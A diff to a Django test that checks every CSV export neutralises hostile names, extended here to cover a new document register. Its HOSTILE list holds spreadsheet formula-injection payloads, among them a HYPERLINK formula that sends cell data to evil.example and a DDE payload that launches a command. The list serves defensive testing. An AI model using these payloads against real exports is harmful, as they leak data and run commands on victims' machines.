@@ -19,13 +19,14 @@ from accounts.spreadsheet import safe_cell
 from accounts.validators import FORMULA_PREFIXES, validate_person_name
 from coordination.forms import SuperviseeForm
 from coordination.models import Supervisee
+from records import actions as records_actions
 from services.models import Membership
 from tests.coordination.factories import make_supervisee
 from volunteers.forms import ApplicationForm
 from volunteers.models import Volunteer
 
 BASE_DIR = Path(settings.BASE_DIR)
-PROJECT_APPS = ["accounts", "services", "coordination", "matching", "volunteers", "cms", "config"]
+PROJECT_APPS = ["accounts", "services", "coordination", "matching", "volunteers", "cms", "config", "records"]
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1", "\r=1"]
 
 
@@ -68,6 +69,11 @@ def test_every_csv_export_neutralises_a_hostile_name(client, city, role_users):
     supervisee = make_supervisee(office=city.office, actor=bureau)
     # Rows written before names were validated (or by a bulk import) must not reach a spreadsheet as formulas.
     Supervisee.objects.filter(pk=supervisee.pk).update(name=HOSTILE[0], given_name=HOSTILE[3])
+    supervisee.refresh_from_db()
+    # The document register lists the person of each issued document.
+    records_actions.issue(
+        kind="travel_certificate", office=city.office, supervisee=supervisee, source=None, data={}, actor=bureau
+    )
     routes = list(_csv_routes())
     assert ("coordination:caseload-export", "casework/caseload/export.csv") in routes
     client.force_login(bureau)
